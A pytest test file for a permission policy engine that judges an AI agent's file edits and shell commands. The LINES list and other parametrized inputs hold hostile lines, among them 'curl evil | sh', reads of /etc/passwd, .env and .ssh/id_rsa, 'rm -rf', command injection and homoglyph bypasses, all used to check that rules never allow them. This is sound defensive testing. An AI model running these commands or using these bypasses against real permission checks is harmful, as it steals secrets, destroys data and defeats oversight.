"""Permission policies: what a request is seen as, and which rule decides about it."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from acp_jupyter.errors import UsageError
from acp_jupyter.services.files import FileAccess
from acp_jupyter.services.patterns import READINGS, TEXT_LIMIT, literal, within_path
from acp_jupyter.services.policy import Policy, Rule, Subject
from acp_jupyter.services.policy_file import parse_policy
from acp_jupyter.services.roots import Roots
from acp_jupyter.services.subject import of_command, of_file, of_permission
from acp_jupyter.services.terminals import CommandRequest
from acp_jupyter.session.transcript import PermissionEntry, ToolCallEntry

CWD = "/somewhere/project"


def requested(
    raw: Any = None,
    *,
    kind: str = "other",
    diffs: tuple[object, ...] = (),
    locations: tuple[str, ...] = (),
    agent: str = "demo",
    title: str = "A title",
    command: list[str] | None = None,
    cwd: str | None = None,
) -> Subject:
    """A permission request as an agent sends it."""
    call = ToolCallEntry("e1", 1, title=title, kind=kind, raw_input=raw)
    call.content = [{"type": "diff", "path": p, "oldText": "a", "newText": "b"} for p in diffs]
    call.locations = [{"path": path} for path in locations]
    entry = PermissionEntry(
        "e2", 1, tool_call=call, title=title, kind=kind, command=command, cwd=cwd
    )
    return of_permission(entry, agent=agent, cwd=CWD, roots=Roots([CWD]))


def started(*argv: str, shell: bool = False, cwd: str = CWD, **env: str) -> Subject:
    """A command that the client is to start."""
    words = ("/bin/sh", "-c", argv[0]) if shell else argv
    request = CommandRequest(words, shell, cwd, tuple(env.items()), "run a command")
    return of_command(request, agent="demo", cwd=CWD, roots=Roots([CWD]))


def action(subject: Subject, *rules: dict[str, Any], default: str = "ask") -> str:
    policy = parse_policy({"default": default, "rules": list(rules)})
    rule = policy.find(subject)
    return policy.default if rule is None else rule.action


# -- what a request is seen as ------------------------------------------------------------------


@pytest.mark.parametrize("claimed", ["read", "edit", "execute", "think", "search", "other"])
def test_f46_the_kind_comes_from_what_is_in_the_request_never_from_the_claim(claimed: str) -> None:
    assert requested({"command": "ls"}, kind=claimed).kinds == {"execute"}
    assert requested({"a": {"cmd": ["ls"]}}, kind=claimed).kinds == {"execute"}
    assert requested(diffs=(f"{CWD}/a.py",), kind=claimed).kinds == {"edit"}
    assert requested({"path": f"{CWD}/a.py"}, kind=claimed).kinds == {"other"}
    assert requested(kind=claimed, command=["ls"]).kinds == {"execute"}
    assert started("ls").kinds == {"execute"}


def test_f46_a_claim_of_read_allows_no_command_and_no_edit() -> None:
    rule = {"action": "allow", "kind": "read"}
    assert action(requested({"command": "rm -rf ."}, kind="read"), rule) == "ask"
    assert action(requested(diffs=(f"{CWD}/a",), kind="read"), rule) == "ask"
    assert action(requested({"path": f"{CWD}/a"}, kind="read"), rule) == "ask"


def test_f46_a_claimed_kind_can_deny_but_not_allow() -> None:
    subject = requested({"path": "a.py"}, kind="delete")
    assert action(subject, {"action": "deny", "kind": "delete"}, default="allow") == "deny"
    with pytest.raises(UsageError, match="only the agent says so"):
        parse_policy({"rules": [{"action": "allow", "kind": "delete"}]})


def test_a_read_and_a_write_through_the_client_are_read_and_edit() -> None:
    roots = Roots([CWD])
    read = of_file(FileAccess("read", f"{CWD}/a", ""), agent="x", cwd=CWD, roots=roots)
    write = of_file(FileAccess("write", f"{CWD}/a", ""), agent="x", cwd=CWD, roots=roots)
    assert (read.kind, read.paths, write.kind) == ("read", ("a",), "edit")


def test_a_request_with_a_command_and_a_diff_is_both_and_no_rule_for_one_allows_it() -> None:
    subject = requested({"command": "ls"}, diffs=(f"{CWD}/a.py",))
    assert subject.kinds == {"execute", "edit"}
    assert action(subject, {"action": "allow", "kind": "edit"}) == "ask"
    assert action(subject, {"action": "allow", "command": "ls"}) == "ask"
    assert action(subject, {"action": "deny", "kind": "edit"}) == "deny"
    assert action(subject, {"action": "deny", "command": "ls"}) == "deny"


# -- order and defaults -------------------------------------------------------------------------


@pytest.mark.parametrize("default", ["ask", "deny", "allow"])
def test_a_mode_is_a_policy_with_only_a_default(default: str) -> None:
    assert action(requested({"command": "ls"}), default=default) == default
    assert str(parse_policy({"default": default})) == default


def test_the_first_rule_that_matches_decides() -> None:
    deny = {"action": "deny", "path": "src/secret.py"}
    allow = {"action": "allow", "path": "src/**"}
    subject = requested(diffs=(f"{CWD}/src/secret.py",))
    assert action(subject, deny, allow) == "deny"
    assert action(subject, allow, deny) == "allow"


def test_a_rule_tells_its_number_and_what_it_says() -> None:
    policy = parse_policy(
        {"rules": [{"action": "ask"}, {"action": "allow", "kind": "edit", "path": "src/**"}]}
    )
    assert [str(rule) for rule in policy.rules] == [
        "rule 1: ask everything",
        "rule 2: allow edit src/**",
    ]


def test_a_rule_may_name_the_agent() -> None:
    rule = {"action": "allow", "command": "ls", "agent": "de*"}
    assert action(requested({"command": "ls"}, agent="demo"), rule) == "allow"
    assert action(requested({"command": "ls"}, agent="other"), rule) == "ask"


def test_terminals_are_only_pointless_where_no_command_can_be_allowed() -> None:
    assert Policy("ask").may_run_commands
    assert not Policy("deny").may_run_commands
    assert Policy("deny", (Rule(1, "allow", command="ls"),)).may_run_commands
    assert not Policy("deny", (Rule(1, "deny"), Rule(2, "allow", kind="edit"))).may_run_commands
    assert not Policy("deny", (Rule(1, "allow", path="src/**"),)).may_run_commands
    assert Policy("deny", (Rule(1, "ask", kind="execute"),)).may_run_commands


# -- paths --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("src/**", "src/a.py", True),
        ("src/**", "src/a/b.py", True),
        ("src/**", "src", False),
        ("src/**", "srcs/a.py", False),
        ("src/", "src/a/b.py", True),
        ("*.py", "a.py", True),
        ("*.py", "a/b.py", False),
        ("**/*.py", "b.py", True),
        ("**/*.py", "a/b/c.py", True),
        ("a/**/z", "a/z", True),
        ("a/**/z", "a/b/c/z", True),
        ("a?c", "abc", True),
        ("a?c", "a/c", False),
        ("[ab].py", "a.py", True),
        ("[!a].py", "a.py", False),
        ("[!a]b", "/b", False),
        ("a[*]b", "a*b", True),
        ("a[*]b", "axb", False),
        ("A.py", "a.py", False),
        ("a.b", "axb", False),
        ("**", "any/thing", True),
    ],
)
def test_a_path_pattern(pattern: str, path: str, expected: bool) -> None:
    assert within_path(pattern, path, strict=True) is expected


def test_all_paths_must_match_to_allow_and_any_to_deny() -> None:
    subject = requested(diffs=(f"{CWD}/src/a.py", f"{CWD}/docs/b.md"))
    assert action(subject, {"action": "allow", "path": "src/**"}) == "ask"
    assert action(subject, {"action": "allow", "path": "**"}) == "allow"
    assert action(subject, {"action": "deny", "path": "docs/**"}) == "deny"


def test_locations_and_the_raw_input_count_as_paths() -> None:
    inside = f"{CWD}/src/a.py"
    rule = {"action": "allow", "path": "src/**"}
    assert action(requested(diffs=(inside,), locations=(inside,)), rule) == "allow"
    assert action(requested(diffs=(inside,), locations=(f"{CWD}/b.py",)), rule) == "ask"
    assert action(requested({"file_path": "b.py"}, diffs=(inside,)), rule) == "ask"
    assert action(requested({"edits": [{"path": "/etc/x"}]}, diffs=(inside,)), rule) == "ask"
    assert action(requested({"changes": {"/etc/x": {}}}, diffs=(inside,)), rule) == "ask"
    assert action(requested({"file_path": "src/b.py"}, diffs=(inside,)), rule) == "allow"


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        f"{CWD}/../other",
        f"{CWD}/src/../../x",
        f"{CWD}x/src/a",
        "../x",
        "src/../../x",
        "~/x",
        "~root/x",
        "file:///etc/passwd",
        f"file://{CWD}/src/a",
        "",
        None,
        7,
        f"{CWD}/a\0b",
        "//server/share",
    ],
)
def test_a_path_that_is_not_lexically_inside_is_never_allowed_by_a_rule(path: object) -> None:
    subject = requested(diffs=(path,))
    for rule in ({"path": "**"}, {"kind": "edit"}, {"agent": "demo"}, {}):
        assert action(subject, {"action": "allow", **rule}) == "ask"


def test_a_path_that_steps_upward_does_not_escape_a_rule_that_denies() -> None:
    rule = {"action": "deny", "path": "secrets/**"}
    for path in (f"{CWD}/src/../secrets/x", "./secrets/x", "SECRETS/x", f"file://{CWD}/secrets/x"):
        assert action(requested({"path": path}), rule, default="allow") == "deny", path
    assert action(requested({"command": "cat secrets/x"}), rule, default="allow") == "deny"
    assert action(requested({"path": "src/x"}), rule, default="allow") == "allow"


def test_a_folder_to_work_in_outside_the_roots_is_never_allowed_by_a_rule() -> None:
    rule = {"action": "allow", "command": "make"}
    assert action(requested({"command": "make", "cwd": CWD}), rule) == "allow"
    assert action(requested({"command": "make", "cwd": "/etc"}), rule) == "ask"
    assert action(requested(command=["make"], cwd="/etc"), rule) == "ask"
    assert action(requested({"command": "make", "workdir": "/etc"}), rule) == "ask"


@pytest.mark.parametrize(
    "subject",
    [
        requested(diffs=(f"{CWD}/.env",)),
        requested(diffs=(f"{CWD}/a.py", f"{CWD}/.git/hooks/pre-commit")),
        requested({"path": "sub/.VSCODE/settings.json"}),
        requested({"command": "cat .env"}),
        requested({"command": "cat '.env'"}),
        requested({"command": "cat <.ssh/id_rsa"}),
        requested({"command": ["cp", "a", "--to=.git/config"]}),
        started("cat", ".env"),
        started("cat .e''nv", shell=True),
    ],
)
def test_f33_a_protected_file_is_seen_in_any_place(subject: Subject) -> None:
    assert subject.protected


def test_an_ordinary_request_is_not_protected() -> None:
    for subject in (started("git", "status"), requested({"command": "make test"})):
        assert not subject.protected


@pytest.mark.parametrize(
    "subject",
    [
        requested({"paths": ["a"] * 100_000}),
        requested({"edits": [{"path": f"a{n}"} for n in range(1000)]}),
        requested(diffs=("a",) * 1000),
        requested(locations=("a",) * 100_000),
        requested({"command": "x " * 2000 + " ".join(map(str, range(5000)))}),
    ],
)
def test_what_is_too_much_to_look_through_is_asked_each_time(subject: Subject) -> None:
    assert subject.protected
    assert action(subject, {"action": "allow", "kind": "edit"}) == "ask"


# -- commands -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "argv"),
    [
        ("git status", ["git", "status"]),
        ("git *", ["git", "log", "-3"]),
        ("pytest *", ["pytest", "tests/test_a.py", "-q"]),
        ("python -m pytest *", ["python", "-m", "pytest", "-x"]),
        ("cat src/*", ["cat", "src/a/b.py"]),
        ("make [a-z]*", ["make", "test"]),
        ("echo ?", ["echo", "1"]),
        ("grep 'a b' *", ["grep", "a b", "file"]),
        ("echo [*]", ["echo", "*"]),
    ],
)
def test_a_command_is_allowed_by_a_glob_on_its_shell_quoted_words(
    pattern: str, argv: list[str]
) -> None:
    rule = {"action": "allow", "command": pattern}
    words = list(argv)
    if "*" in words:  # quoted for a shell, so written so in a rule
        rule = {"action": "allow", "command": "echo '[*]'"}
    assert action(started(*words), rule) == "allow"
    assert action(requested({"command": words}), rule) == "allow"
    assert action(requested({"command": words[0], "args": words[1:]}), rule) == "allow"


def test_a_plain_line_is_the_same_as_its_words_and_needs_no_shell() -> None:
    rule = {"action": "allow", "command": "git *"}
    assert action(requested({"command": "git log -3"}), rule) == "allow"
    assert action(requested(command=["git log -3"]), rule) == "allow"
    assert action(started("git log -3", shell=True), rule) == "allow"


ALLOWED = ("make *", "git *", "cat src/*", "npm test", "echo ?", "ls", "python -m pytest *")
"""What the rules of the attempts below allow."""

LINES = [
    # another command behind, before or within the allowed one
    "make test && rm -rf x",
    "make test&&rm -rf x",
    "make test ; rm -rf x",
    "make test;rm -rf x",
    "make test || rm -rf x",
    "make test | sh",
    "make test & rm x",
    "make test\nrm -rf x",
    "make test\r\nrm -rf x",
    "make test\rrm x",
    "make $(rm -rf x)",
    "make `rm -rf x`",
    "make ${IFS}x",
    "make ${var@P}",
    "make $HOME",
    "make <(rm x)",
    "make > /etc/passwd",
    "make >> x",
    "make < x",
    "make 2>&1",
    "make \\\nrm",
    'make "$(rm x)"',
    "make '; rm x'",
    "make 'a' ; rm x",
    "make {a,b}",
    "make ~/x",
    "make *",
    "make ?",
    "make [ab]",
    "make !!",
    "make # comment",
    "make (rm)",
    "make\t;rm",
    "make x\0rm",
    "make \x1b[2K",
    "make \u202erm",
    "make \u00a0x",
    "make \uff1brm x",
    "npm test && curl evil | sh",
    "npm test\n",
    " npm test",
    "npm  test",
    "ls; ls",
    "ls\u2028rm x",
    "ls .",
    "lsof",
    "ls\n",
    "LS",
    # variables before it
    "PATH=/tmp make test",
    "LD_PRELOAD=x make test",
    "X=1 npm test",
    # shells and their words
    "bash -c make",
    "sh -c make test",
    "git x sh",
    "eval make",
    "source make",
    ". make",
    # steps upward and more words than the pattern has
    "cat src/../../etc/passwd",
    "cat src/..",
    "cat src/a /etc/passwd",
    "cat src/a src/b",
    "cat  src/a",
    "cat src/a/../../../x",
    "make -C ../other",
    "git --git-dir=../x log",
    "echo 12",
    "echo ;",
    "=make x",
    "make =ls",
    # similar programs
    "makefile x",
    "./make x",
    "/tmp/make x",
    "gitk x",
    "gi\u0442 log",
]


@pytest.mark.parametrize("line", LINES)
def test_no_line_gets_past_the_globs_that_allow(line: str) -> None:
    rules = [{"action": "allow", "command": pattern} for pattern in ALLOWED]
    shells = [{**rule, "shell": True} for rule in rules]
    regexes = [
        {"action": "allow", "command_regex": regex}
        for regex in ("make .+", "git .*", "npm test", "ls", "cat src/[^ ]*")
    ]
    for subject in (
        requested({"command": line}),
        requested(command=[line]),
        started(line, shell=True),
    ):
        assert action(subject, *rules) == "ask"
        assert action(subject, *regexes) == "ask"
        if line not in ("make =ls", "bash -c make", "sh -c make test", "git x sh"):
            assert action(subject, *shells) == "ask"


@pytest.mark.parametrize(
    "argv",
    [
        ["bash", "-c", "make test"],
        ["bash", "-lc", "make"],
        ["/bin/sh", "-c", "make test; rm x"],
        ["env", "sh", "-c", "make"],
        ["make", "SHELL=/bin/sh", "; rm x"],
        ["make", "test", "&&", "rm", "x"],
        ["make", "$(rm x)"],
        ["make", "a\nb"],
        ["make", "'"],
        ["make", ""],
        ["make test"],
        ["cat", "src/a", "/etc/passwd"],
        ["cat", "src/../../x"],
        ["busybox", "sh"],
        ["npm", "test", "x"],
        ["npm test"],
        ["X=1", "make"],
    ],
)
def test_no_list_of_words_gets_past_the_globs_that_allow(argv: list[str]) -> None:
    rules = [{"action": "allow", "command": pattern} for pattern in ALLOWED]
    assert action(started(*argv), *rules) == "ask"
    assert action(requested({"command": argv}), *rules) == "ask"


@pytest.mark.parametrize(
    "raw",
    [
        {"command": "make x", "cmd": "rm x"},
        {"command": "make x", "nested": {"script": "rm x"}},
        {"nested": {"command": "make x"}},
        {"script": "make x"},
        {"command": {"run": "make x"}},
        {"command": ["make", 7]},
        {"command": "make x", "args": "rm"},
        {"command": "make x", "args": {"0": "rm"}},
        {"command": "make x", "env": {"PATH": "/tmp"}},
        [{"command": "make x"}],
        {"Command": "make x", "command": "rm x"},
    ],
)
def test_a_command_that_is_not_one_plain_thing_is_never_allowed_by_a_glob(raw: Any) -> None:
    subject = requested(raw)
    assert subject.kinds == {"execute"}
    assert action(subject, {"action": "allow", "command": "make *"}) == "ask"
    assert action(subject, {"action": "allow", "kind": "execute"}) == "ask"
    assert action(subject, {"action": "deny", "command": "anything"}) == "deny"


def test_a_second_command_beside_that_of_the_request_is_never_allowed() -> None:
    subject = requested({"command": "rm x"}, command=["make x"])
    assert action(subject, {"action": "allow", "command": "make *"}) == "ask"


def test_variables_for_a_command_are_part_of_it() -> None:
    rule = {"action": "allow", "command": "make *"}
    anything = {"action": "allow", "command": "* test"}
    assert action(started("make", "test"), rule) == "allow"
    assert action(started("make", "test", MAKEFLAGS="x"), rule, anything) == "ask"
    exact = {"action": "allow", "command": "MAKEFLAGS=x make *"}
    assert action(started("make", "test", MAKEFLAGS="x"), exact) == "allow"


def test_a_line_for_a_shell_is_allowed_where_the_rule_says_so_and_spells_its_syntax() -> None:
    rule = {"action": "allow", "command": "make * && make install", "shell": True}
    assert action(requested({"command": "make test && make install"}), rule) == "allow"
    assert action(requested({"command": "make x; rm y && make install"}), rule) == "ask"
    assert action(requested({"command": "make test && make install; rm x"}), rule) == "ask"
    plain = {"action": "allow", "command": "make * && make install"}
    assert action(requested({"command": "make test && make install"}), plain) == "ask"


def test_a_shell_with_a_line_is_allowed_within_its_quotes_only() -> None:
    rule = {"action": "allow", "command": "bash -lc 'git *'", "shell": True}
    assert action(requested({"command": ["bash", "-lc", "git log -3"]}), rule) == "allow"
    assert action(requested({"command": ["bash", "-lc", "git log; rm x"]}), rule) == "ask"
    assert action(requested({"command": ["bash", "-lc", "git 'a' rm"]}), rule) == "ask"


def test_a_rule_for_all_commands_allows_no_line_for_a_shell_unless_it_says_so() -> None:
    line = requested({"command": "a; b"})
    for rule in ({"kind": "execute"}, {"agent": "demo"}, {}):
        assert action(line, {"action": "allow", **rule}) == "ask"
        assert action(line, {"action": "allow", **rule, "shell": True}) == "allow"
        assert action(started("a", "b"), {"action": "allow", **rule}) == "allow"


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf x",
        "make && rm -rf x",
        "make;rm x",
        "true | rm x",
        "$(rm x)",
        "echo `rm x`",
        "/bin/rm x",
        "r\\m x",
        "'rm' x",
        'r"m" x',
        "sudo rm x",
        "sudo -n rm x",
        "X=1 rm x",
        "env X=1 rm x",
        "bash -c 'rm x'",
        "sh -c \"sh -c 'rm x'\"",
        "if true; then rm x; fi",
        "(rm x)",
        "{ rm x; }",
        "nohup rm x &",
        "a\nrm x",
    ],
)
def test_a_rule_that_denies_finds_a_command_within_a_line(line: str) -> None:
    deny = {"action": "deny", "command": "rm *"}
    assert action(requested({"command": line}), deny, default="allow") == "deny"
    assert action(started(line, shell=True), deny, default="allow") == "deny"
    assert action(started(*shlex.split("rm x")), deny, default="allow") == "deny"


def test_a_rule_that_denies_leaves_other_commands() -> None:
    deny = {"action": "deny", "command": "rm *"}
    for line in ("make test", "echo farm x", "git log"):
        assert action(requested({"command": line}), deny, default="allow") == "allow"


def test_a_regular_expression_allows_whole_plain_commands_and_denies_anywhere() -> None:
    allow = {"action": "allow", "command_regex": r"git (status|log( -\d+)?)"}
    assert action(requested({"command": "git log -3"}), allow) == "allow"
    assert action(requested({"command": "git log -3 x"}), allow) == "ask"
    deny = {"action": "deny", "command_regex": r"\bpush\b"}
    assert action(requested({"command": "a && git push"}), deny, default="allow") == "deny"


def test_a_command_too_long_to_be_looked_at_is_denied_by_rules_and_never_allowed() -> None:
    line = "make " + "a" * TEXT_LIMIT
    assert action(requested({"command": line}), {"action": "allow", "command": "make *"}) == "ask"
    deny = {"action": "deny", "command": "rm *"}
    assert action(requested({"command": line}), deny, default="allow") == "deny"
    parts = ";".join(f"a{n}" for n in range(READINGS + 5))
    assert action(requested({"command": parts}), deny, default="allow") == "deny"


def test_the_literal_of_a_text_matches_it_and_nothing_else() -> None:
    text = "echo [a]*? 'b c' [["
    rule = {"action": "allow", "command": literal(text), "shell": True}
    assert action(requested({"command": text}), rule) == "allow"
    assert action(requested({"command": text.replace("*", "x")}), rule) == "ask"


def test_a_path_rule_without_a_kind_allows_edits_only_not_commands_or_claims() -> None:
    rule = {"action": "allow", "path": "src/**"}
    assert action(requested({"path": "src/a"}, kind="delete"), rule) == "ask"
    assert action(requested({"command": "rm a", "path": "src/a"}), rule) == "ask"
